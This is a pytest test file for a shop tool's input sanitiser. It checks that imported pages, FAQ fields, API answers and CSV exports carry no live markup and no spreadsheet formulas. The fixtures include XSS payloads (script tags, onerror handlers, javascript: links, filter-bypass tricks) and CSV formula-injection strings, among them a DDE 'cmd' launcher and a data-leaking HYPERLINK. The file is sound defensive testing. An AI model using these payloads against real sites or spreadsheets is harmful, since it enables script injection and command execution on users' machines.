"""Untrusted text in and out (issue 7): no live markup in stored text, titles, FAQ fields or
API answers; no formula cells in spreadsheet-bound files unless ``--raw``.

The tests named after the issue's bullets drive the real importers, CLI and API; the rest
pin down :mod:`shopmind.safety` itself, with property-based tests that can fail.
"""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from sqlalchemy import select
from typer.testing import CliRunner

from shopmind.api.app import create_app
from shopmind.cli import app as cli
from shopmind.config import load_settings
from shopmind.reviews.text import clean_text
from shopmind.safety import (
    SafeDictWriter,
    html_to_text,
    is_formula,
    markdown_to_text,
    neutralize_cell,
    one_line,
    parse_html,
    remove_controls,
    safe_url,
    safe_writer,
    sanitize_html,
    visible_text,
)
from shopmind.store import Store
from shopmind.store.apikeys import create_api_key
from shopmind.store.importers import import_file
from shopmind.store.models import Page

ESCAPED_SCRIPT = "&lt;script&gt;alert('pwned')&lt;/script&gt;"
# A complete tag, comment or declaration: what a browser would read as markup.
TAG = re.compile(r"<[A-Za-z/!?][^<>]*>")


def _pages(store: Store) -> dict[str, Page]:
    with store.session() as s:
        return {p.external_id: p for p in s.scalars(select(Page))}


def _no_markup(*texts: str | None) -> None:
    for text in texts:
        assert text is not None
        assert "<script" not in text.lower() and "alert" not in text, text
        assert not TAG.search(text), text


# --- issue 7, "Live markup from text" -------------------------------------------------------


def test_live_markup_escaped_script_in_imported_page_is_not_decoded_into_markup(
    store: Store, tmp_path: Path
) -> None:
    """Bullet: importing pages, ``&lt;script&gt;…&lt;/script&gt;`` was entity-decoded into
    a live ``<script>`` in the stored text."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "help.html").write_text(
        f"<html><head><title>Help</title></head><body><p>Before {ESCAPED_SCRIPT} after.</p>"
        "<p>&amp;lt;script&amp;gt;alert(2)&amp;lt;/script&amp;gt;Twice escaped.</p></body>",
        encoding="utf-8",
    )
    (docs / "notes.md").write_text(f"# Notes\n\nKeep {ESCAPED_SCRIPT} calm.\n", encoding="utf-8")
    (docs / "plain.txt").write_text("Plain <script>alert(3)</script> text.\n", encoding="utf-8")

    import_file(store, "pages", docs)

    pages = _pages(store)
    assert pages["help.html"].body == "Before after.\nTwice escaped."
    assert pages["notes.md"].body == "Notes\n\nKeep calm."
    assert pages["plain.txt"].body == "Plain text."
    _no_markup(*(p.body for p in pages.values()), *(p.title for p in pages.values()))


def test_live_markup_escaped_script_in_faq_answer_is_not_decoded_into_markup(
    store: Store, tmp_path: Path
) -> None:
    """Bullet: the same for FAQ answers (a FAQ CSV)."""
    faq = tmp_path / "faq.csv"
    faq.write_text(
        "Question,Answer\n"
        f'How do I pay?,"Card or PayPal. {ESCAPED_SCRIPT}"\n'
        f'Do you ship abroad?,"<p>Yes.</p>{ESCAPED_SCRIPT.replace("&", "&amp;")}"\n',
        encoding="utf-8",
    )
    import_file(store, "pages", faq)
    answers = {p.question: p.body for p in _pages(store).values()}
    assert answers == {"How do I pay?": "Card or PayPal.", "Do you ship abroad?": "Yes."}


def test_live_markup_script_inside_heading_does_not_reach_the_title(
    store: Store, tmp_path: Path
) -> None:
    """Bullet: the text inside a ``<script>`` in a heading ended up in the title."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "returns.html").write_text(
        "<h1>Returns<script>document.title='alert(1)'</script> &amp; refunds</h1><p>Body.</p>",
        encoding="utf-8",
    )
    (docs / "escaped.html").write_text(
        f"<title>Guide {ESCAPED_SCRIPT}</title><p>Body.</p>", encoding="utf-8"
    )
    (docs / "heading.md").write_text(
        "# Sizes <script>alert(1)</script><b>chart</b>\n\nBody.\n", encoding="utf-8"
    )
    import_file(store, "pages", docs)
    titles = {k: p.title for k, p in _pages(store).items()}
    assert titles == {
        "returns.html": "Returns & refunds",
        "escaped.html": "Guide",
        "heading.md": "Sizes chart",
    }


def test_live_markup_front_matter_title_and_faq_question_are_stored_without_tags(
    store: Store, tmp_path: Path
) -> None:
    """Bullet: Markdown front-matter titles and FAQ questions were stored with their tags."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "terms.md").write_text(
        '---\ntitle: "<b>Terms</b> <img src=x onerror=alert(1)>&amp; <i>conditions</i>"\n'
        "---\n\nThe terms.\n",
        encoding="utf-8",
    )
    import_file(store, "pages", docs)
    assert _pages(store)["terms.md"].title == "Terms & conditions"

    faq = tmp_path / "faq.csv"
    faq.write_text(
        'Question,Answer\n"Is it <b>safe</b>?<script>alert(1)</script>",Yes.\n'
        f'"Why &lt;b&gt;{ESCAPED_SCRIPT}?",Because.\n',
        encoding="utf-8",
    )
    import_file(store, "pages", faq)
    faqs = [p for p in _pages(store).values() if p.kind == "faq"]
    assert sorted((p.question, p.title) for p in faqs) == [
        ("Is it safe?", "Is it safe?"),
        ("Why ?", "Why ?"),
    ]


def test_live_markup_javascript_link_leaves_only_its_text(store: Store, tmp_path: Path) -> None:
    """Bullet: ``[click](javascript:…)`` left debris in the stored text."""
    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "links.md").write_text(
        "# Links\n\n[click](javascript:alert(1)) or [here](data:text/html,<b>x</b>) or "
        "![a photo](javascript:alert(2)) or [mail](mailto:help@x.test).\n",
        encoding="utf-8",
    )
    import_file(store, "pages", docs)
    body = _pages(store)["links.md"].body
    assert body == "Links\n\nclick or here or a photo or mail."


def test_live_markup_review_score_api_returns_no_script_in_aspect_sentences(
    workspace: Path,
) -> None:
    """Bullet: ``POST /v1/reviews/score`` returned decoded ``<script>`` in aspect sentences."""
    store = Store.open(workspace)
    store.upgrade()
    key = create_api_key(store, "t")
    texts = [
        f"The fabric is lovely. {ESCAPED_SCRIPT} The price is awful.",
        "The quality &lt;script&gt;alert(1)&lt;/script&gt;is great &amp; the fit is poor.",
        "<p>Shipping was slow.<script>alert('shipping terrible')</script></p>",
        "Great size &amp;lt;img src=x onerror=alert(1)&amp;gt; and fit.",
    ]
    with TestClient(create_app(load_settings(workspace), store=store)) as client:
        r = client.post(
            "/v1/reviews/score",
            json={"texts": texts, "model": "lexicon"},
            headers={"Authorization": f"Bearer {key}"},
        )
    assert r.status_code == 200, r.text
    results = r.json()["results"]
    sentences = [a["sentence"] for result in results for a in result["aspects"]]
    assert len(sentences) >= len(texts)  # every text names an aspect: the check has teeth
    for sentence in sentences:
        assert "<" not in sentence and "alert" not in sentence and "&lt" not in sentence
    store.dispose()


# --- issue 7, "Formula injection" -----------------------------------------------------------

HEADER = "Handle,Title,Body (HTML),Option1 Name,Option1 Value,Variant SKU,Variant Price\n"
FORMULAS = ['=HYPERLINK("http://x.test?"&A1)', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def _reject_rows(runner: CliRunner, ws: list[str], path: Path, *extra: str) -> list[list[str]]:
    rejects = path.with_name("rejects.csv")
    args = [*ws, "import", "shopify-products", str(path), "--skip-bad-rows"]
    result = runner.invoke(cli, [*args, "--reject-file", str(rejects), *extra])
    assert result.exit_code == 0, result.output
    with rejects.open(encoding="utf-8", newline="") as fh:
        return list(csv.reader(fh))


def test_formula_injection_reject_file_cells_are_neutralised_unless_raw(
    workspace: Path, tmp_path: Path
) -> None:
    """Bullet: cells beginning with ``=``, ``+``, ``-``, ``@`` were written back unchanged
    into reject files."""
    lines = [
        f'x{i},"{f.replace(chr(34), chr(34) * 2)}",,,,S{i},free\n' for i, f in enumerate(FORMULAS)
    ]
    path = tmp_path / "products.csv"
    path.write_text(HEADER + "".join(lines) + "neg,Neg,,,,N,-5 dollars\n", encoding="utf-8")
    runner, ws = CliRunner(), ["--workspace", str(workspace)]

    rows = _reject_rows(runner, ws, path)
    assert [r[1] for r in rows[1:5]] == ["'" + f for f in FORMULAS]
    assert rows[5][6] == "'-5 dollars"
    assert not any(is_formula(cell) for row in rows for cell in row)

    raw = _reject_rows(runner, ws, path, "--raw")
    assert [r[1] for r in raw[1:5]] == FORMULAS


def _scored(runner: CliRunner, ws: list[str], src: Path, *extra: str) -> list[dict[str, str]]:
    out = src.with_name("scored.csv")
    args = ["reviews", "score", "--input", str(src), "--text-column", "text"]
    result = runner.invoke(cli, [*ws, *args, "--output", str(out), "--model", "lexicon", *extra])
    assert result.exit_code == 0, result.output
    with out.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_formula_injection_scored_csv_cells_are_neutralised_unless_raw(
    workspace: Path, tmp_path: Path
) -> None:
    """Bullet: the same for ``reviews score --output``."""
    src = tmp_path / "reviews.csv"
    with src.open("w", encoding="utf-8", newline="") as fh:
        writer = csv.writer(fh)
        writer.writerow(["id", "text", "delta"])
        for i, formula in enumerate(FORMULAS):
            writer.writerow([f"r{i}", formula, "-5"])
        writer.writerow(["=cmd", "\tLovely dress", "+1.5"])
    runner, ws = CliRunner(), ["--workspace", str(workspace)]

    rows = _scored(runner, ws, src)
    assert [r["text"] for r in rows] == ["'" + f for f in [*FORMULAS, "\tLovely dress"]]
    assert rows[-1]["id"] == "'=cmd"
    assert [r["delta"] for r in rows] == ["-5"] * 4 + ["+1.5"]  # plain numbers stay numbers
    assert not any(is_formula(v) for r in rows for k, v in r.items() if k != "delta")

    raw = _scored(runner, ws, src, "--raw")
    assert [r["text"] for r in raw] == [*FORMULAS, "\tLovely dress"]


# --- HTML / Markdown → text -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("markup", "expected"),
    [
        ("I <3 this", "I <3 this"),
        ("2 < 3 and 5 > 4", "2 < 3 and 5 > 4"),
        ("a<b", "a<b"),
        ("Tom & Jerry, R&D, &copy", "Tom & Jerry, R&D, ©"),
        (
            "<p>Soft <b>cotton</b>&nbsp;tee</p><ul><li>One</li><li>Two</li></ul>",
            "Soft cotton tee\nOne\nTwo",
        ),
        (ESCAPED_SCRIPT + "after", "after"),
        ("2 &lt; 3 &lt;script&gt;", "2 < 3"),
        ("Add the &lt;script&gt; tag to your theme.", "Add the tag to your theme."),
        ("&amp;amp;amp;lt;b&amp;amp;amp;gt;x", "x"),
        ("i&amp;amp;amp;amp;#39;m 5&amp;amp;#39;8&amp;quot;", "i'm 5'8\""),
        ("<\x00script>alert(1)</script>ok", "ok"),
        ("<\u200bscript>alert(1)</script>ok", "ok"),
        ("<scr<script>ipt>alert(1)</script>", "ipt>alert(1)"),
        ("<svg><script>alert(1)</script></svg><math><style>x</style></math>ok", "ok"),
        ("<template><p>t</p></template><noscript>n</noscript><xmp><b>x</b></xmp>ok", "xok"),
        ("<textarea>&lt;script&gt;alert(1)&lt;/script&gt;</textarea>", ""),
        ("see <script", "see script"),
        ("<!-- hidden <script>alert(1)</script> -->shown", "shown"),
        (
            "zero\u200bwidth \u202eoverride\u202c \ud800lone \x07bell",
            "zerowidth override lone bell",
        ),
    ],
)
def test_html_to_text(markup: str, expected: str) -> None:
    assert html_to_text(markup) == expected


def test_parse_html_title_is_plain_text_without_hidden_elements() -> None:
    assert parse_html("<title>A &amp;amp; B</title><h1>x</h1>")[0] == "A & B"
    assert parse_html("<h1>Hi<style>h1{}</style><template>t</template> there</h1>")[0] == (
        "Hi there"
    )
    assert parse_html("<svg><title>svg</title></svg><h1>Real</h1>")[0] == "Real"


def test_markdown_to_text() -> None:
    title, text = markdown_to_text(
        "# Care <em>guide</em>\n\nWash **cold**. See [the chart](javascript:alert(1)).\n\n"
        "![size chart](https://x.test/c.png)\n\n<div onclick=alert(1)>Raw <b>HTML</b></div>\n\n"
        "    <script>code()</script>\n\nI <3 it; 2 < 3.\n"
    )
    assert title == "Care guide"
    # Blocks are paragraphs; the code block's <script> is decoded markup, so it goes too.
    assert text == (
        "Care guide\n\nWash cold. See the chart.\n\nsize chart\n\nRaw HTML\n\nI <3 it; 2 < 3."
    )


def test_one_line_and_controls() -> None:
    assert one_line("  <b>Two</b>\n\tlines ") == "Two lines"
    assert remove_controls("a\r\nb\rc\x00\x1b[31m") == "a\nb\nc[31m"
    flag = "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f"  # Scotland
    assert remove_controls(f"{flag} \U000e0041\U000e0042") == f"{flag} "
    assert remove_controls("👩\u200d💻 \u200c") == "👩\u200d💻 \u200c"


# --- links and HTML that stays HTML ---------------------------------------------------------


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://shop.test/faq", "https://shop.test/faq"),
        ("/pages/faq#returns", "/pages/faq#returns"),
        ("mailto:help@shop.test", "mailto:help@shop.test"),
        ("javascript:alert(1)", None),
        (" JaVaScRiPt:alert(1)", None),
        ("java\tscript:alert(1)", None),
        ("java\nscript:alert(1)", None),
        ("data:text/html,<script>alert(1)</script>", None),
        ("vbscript:msgbox", None),
        ("", None),
    ],
)
def test_safe_url(url: str, expected: str | None) -> None:
    assert safe_url(url) == expected


def test_bad_page_link_is_a_bad_row(store: Store, tmp_path: Path) -> None:
    faq = tmp_path / "faq.csv"
    faq.write_text("Question,Answer,URL\nQ?,A.,javascript:alert(1)\n", encoding="utf-8")
    with pytest.raises(ValueError, match=r"line 2, field 'URL': link 'javascript:alert\(1\)'"):
        import_file(store, "pages", faq)


def test_sanitize_html_keeps_the_allow_list_only() -> None:
    dirty = (
        '<h2 style="x">Care</h2><p onclick="alert(1)">Soft <b>cotton</b> '
        '<a href="javascript:alert(1)">bad</a> <a href="https://x.test" target="_blank">ok</a>'
        '</p><script>alert(1)</script><img src=x onerror=alert(1)><iframe src="//x"></iframe>'
        "<!-- note --><table><tr><td colspan=2>cell</td></tr></table>"
    )
    assert sanitize_html(dirty) == (
        '<h2>Care</h2><p>Soft <b>cotton</b> <a rel="noopener noreferrer nofollow">bad</a> '
        '<a href="https://x.test" rel="noopener noreferrer nofollow">ok</a></p>'
        '<table><tbody><tr><td colspan="2">cell</td></tr></tbody></table>'
    )
    assert sanitize_html(ESCAPED_SCRIPT) == ESCAPED_SCRIPT  # escaped text stays inert text


# --- characters that are never text: one rule -----------------------------------------------

# Every code point of the Basic Multilingual Plane, and astral ones of each kind.
CODE_POINTS = [*range(0x10000), 0x1F600, 0x1F3F4, 0xE0001, 0xE0041, 0xF0000, 0x10FFFF]


def test_one_rule_for_control_characters_and_lone_surrogates() -> None:
    """Regression (review of issue 7): the rule lived in three places (the text cleaner,
    the product-key parser, the API's surrogate check) that could drift apart. Now
    :mod:`shopmind.safety.chars` defines it and each place follows it, for every code point:
    keys refuse exactly those characters, the cleaner removes them (tab and line breaks
    aside), the API finds exactly the lone surrogates."""
    from shopmind.api.validation import find_lone_surrogate, safe_text
    from shopmind.safety.chars import is_unstorable, unstorable_problem
    from shopmind.store.keys import ProductKeyError, parse_product_key

    for code in CODE_POINTS:
        char = chr(code)
        never_text = is_unstorable(char)
        surrogate = 0xD800 <= code <= 0xDFFF
        try:
            parse_product_key(f"k{char}")
        except ProductKeyError as exc:
            assert never_text and str(exc) == unstorable_problem(f"k{char}"), hex(code)
        else:
            assert not never_text, hex(code)
        if never_text and char not in "\n\t\r":
            assert remove_controls(f"a{char}b") == "ab", hex(code)
        assert (find_lone_surrogate({"t": [f"x{char}"]}) is not None) == surrogate, hex(code)
        assert (safe_text(char) != char) == surrogate, hex(code)
    assert unstorable_problem("ok\x07") == "contains a control character, U+0007 at position 2"


def test_dead_text_names_are_gone() -> None:
    """Review of issue 7: the ``store/importers/text.py`` shim and the ``parse_markdown``
    alias were names nothing needed; every caller imports from :mod:`shopmind.safety`."""
    import importlib.util

    import shopmind.safety
    import shopmind.safety.text

    assert importlib.util.find_spec("shopmind.store.importers.text") is None
    assert not hasattr(shopmind.safety, "parse_markdown")
    assert not hasattr(shopmind.safety.text, "parse_markdown")


# --- spreadsheet cells ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "neutralised"),
    [
        ("=1+1", "'=1+1"),
        ("+1 555 0100", "'+1 555 0100"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("  =1+1", "'  =1+1"),
        ("\n@x", "'\n@x"),
        ("＝1+1", "'＝1+1"),
        ("-", "'-"),
        ("-5", "-5"),
        ("+1.5", "+1.5"),
        ("-2.5e3", "-2.5e3"),
        ("-.5", "-.5"),
        ("plain = text", "plain = text"),
        ("", ""),
        (5, 5),
        (None, None),
    ],
)
def test_neutralize_cell(cell: object, neutralised: object) -> None:
    assert neutralize_cell(cell) == neutralised


def test_safe_writers_and_raw() -> None:
    buf = io.StringIO()
    writer = safe_writer(buf, delimiter=";")
    writer.writerows([["=a", "-1"], ["b", "@c"]])
    assert buf.getvalue() == "'=a;-1\r\nb;'@c\r\n"

    buf = io.StringIO()
    dict_writer = SafeDictWriter(buf, ["=h", "v"], extrasaction="ignore")
    dict_writer.writeheader()
    dict_writer.writerow({"=h": "+x", "v": "ok", "extra": "=ignored"})
    assert buf.getvalue() == "'=h,v\r\n'+x,ok\r\n"

    buf = io.StringIO()
    SafeDictWriter(buf, ["v"], raw=True).writerow({"v": "=raw"})
    assert buf.getvalue() == "=raw\r\n"


# --- properties -----------------------------------------------------------------------------

PIECES = [
    "<", ">", "&", "lt;", "gt;", "amp;", "#60;", "#x3C;", "quot;", "script", "SCRIPT", "style",
    "/", "!--", "--", "p", "b", "title", "textarea", "template", "svg", "xmp", "plaintext",
    " ", "\n", "x", "=", '"', "'", "\x00", "\u200b", "\x07", "[", "](", ")", "javascript:",
    "*", "#", "`", "!", "?",
]  # fmt: skip
hostile = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=3)), max_size=40).map(
    "".join
)
PROPERTY = settings(max_examples=400)  # otherwise the seeded profile of tests/conftest.py


def test_property_tests_are_seeded() -> None:
    """Regression (review of issue 7): these property tests drew new random examples each run
    and kept an example database, so CI could fail on a draw no earlier run had made. They
    run under the seeded profile now: derandomised, no database, no deadline."""
    for used in (settings.default, PROPERTY):
        assert used.derandomize is True
        assert used.database is None
        assert used.deadline is None
        assert HealthCheck.too_slow in used.suppress_health_check


@PROPERTY
@given(hostile)
def test_html_to_text_leaves_no_markup_and_is_a_fixed_point(markup: str) -> None:
    text = html_to_text(markup)
    assert html_to_text(text) == text  # nothing left to decode or parse
    assert "<script" not in text.lower()
    assert not TAG.search(text)
    assert remove_controls(text) == text


@PROPERTY
@given(hostile | st.text())
def test_stored_text_is_never_longer_than_written(written: str) -> None:
    """Importers check length limits on text as written (docs/importers.md): that holds
    only if cleaning never lengthens text. And :func:`one_line`'s fast path for text that
    is plain already gives what the full path gives."""
    line = one_line(written)
    assert line == " ".join(visible_text(written).split())
    assert len(line) <= len(written)
    assert one_line(line) == line
    assert len(html_to_text(written, keep_newlines=True)) <= len(written)


@PROPERTY
@given(hostile)
def test_markdown_to_text_leaves_no_markup(source: str) -> None:
    title, text = markdown_to_text(source)
    for out in (title, text):
        assert "<script" not in out.lower()
        assert not TAG.search(out)
        assert html_to_text(out) == out


@PROPERTY
@given(hostile)
def test_clean_text_is_a_fixed_point(raw: str) -> None:
    once = clean_text(raw)
    assert clean_text(once) == once
    assert "<script" not in once.lower()


@PROPERTY
@given(st.lists(st.text(max_size=8), max_size=6))
def test_no_written_cell_reads_back_as_a_formula(cells: list[str]) -> None:
    buf = io.StringIO()
    safe_writer(buf).writerow(cells)
    (read,) = list(csv.reader(io.StringIO(buf.getvalue())))
    assert not any(is_formula(cell) for cell in read)
    for cell, original in zip(read, cells, strict=True):
        assert cell == original or (cell == "'" + original and is_formula(original))
